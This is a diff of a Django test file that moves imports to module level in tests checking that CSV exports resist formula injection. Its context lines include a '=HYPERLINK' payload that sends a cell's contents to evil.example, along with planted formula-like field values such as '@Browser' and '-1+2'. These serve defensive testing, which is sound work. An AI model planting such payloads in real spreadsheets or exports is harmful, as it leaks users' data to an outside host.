@@ -8,15 +8,20 @@ import re
 import subprocess
 
 import pytest
+from django.contrib.auth import get_user_model
 from django.core.management import call_command
 from django.test import Client
+from django.utils import timezone
 
 from conftest import PAPER_FORM, application_for
+from custodian.analytics.models import PageView
 from custodian.csvfile import csv_writer, runs_as_formula
 from custodian.customers.services import customer_enrol
 from custodian.disclosures.exports import export_dir
 from custodian.disclosures.models import VendorExport
+from custodian.portal.models import PortalAccount
 from custodian.testing import PROJECT_ROOT, vendor_with_determination
+from custodian.usage.greenbutton_export import UsagePointExport, green_button_csv
 from custodian.vault.export_crypto import read_export
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -106,11 +111,6 @@ def test_the_decrypted_mailing_export(hostile_customer, privacy_officer):
 
 
 def test_the_portal_download(hostile_customer):
-    from django.contrib.auth import get_user_model
-    from django.utils import timezone
-
-    from custodian.portal.models import PortalAccount
-
     user = get_user_model().objects.create_user(username="c-hostile", password="x" * 20)
     PortalAccount.objects.create(user=user, customer=hostile_customer, confirmed_at=timezone.now())
     client = Client()
@@ -123,9 +123,6 @@ def test_the_portal_download(hostile_customer):
 def test_the_website_statistics_csv(db, web_editor, console):
     """Analytics stores only a host name that can't start like a formula; the CSV must not rely on that
     (rows kept from before a rule changed, or a future column), so a hostile row is planted directly."""
-    from django.utils import timezone
-
-    from custodian.analytics.models import PageView
 
     PageView.objects.create(
         at=timezone.now(), path="/", browser="@Browser", os="-1+2", device="desktop", ip_prefix="",
@@ -140,8 +137,6 @@ def test_the_website_statistics_csv(db, web_editor, console):
 
 
 def test_green_button_csv_keeps_negative_readings_numbers():
-    from custodian.usage.greenbutton_export import UsagePointExport, green_button_csv
-
     point = UsagePointExport(
         key="1", title="electric", service="electric", unit="kWh", readings=[(1_700_000_000, 3600, -1.5)]
     )
